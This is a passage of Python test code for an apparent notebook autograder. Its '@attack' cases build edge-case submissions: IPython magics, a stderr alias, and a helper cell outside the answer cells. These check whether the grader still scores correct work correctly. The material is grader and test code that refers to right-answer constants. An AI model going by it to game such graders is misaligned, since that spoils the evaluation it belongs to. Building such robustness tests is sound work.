    return right_but_first("import sys\n\nerrors = sys.stderr\n\n\n" + with_right_first(body))


@attack(ALL)
def magics_and_displays():
    return right_and("%matplotlib inline\nfrom IPython.display import display\ndisplay(3)\n!true")


@attack(FIRST + 3, says="")
def a_helper_outside_the_answer_cells():
    notebook = copy.deepcopy(BLANK)
    helper = nbformat.v4.new_code_cell("def share(counts): return counts / counts.sum()")
    notebook.cells.insert(1, helper)
    answer(notebook, 4).source = "def smooth(counts, alpha): return share(counts + alpha)"
    answer(notebook).source = RIGHT_ESTIMATE
    return notebook
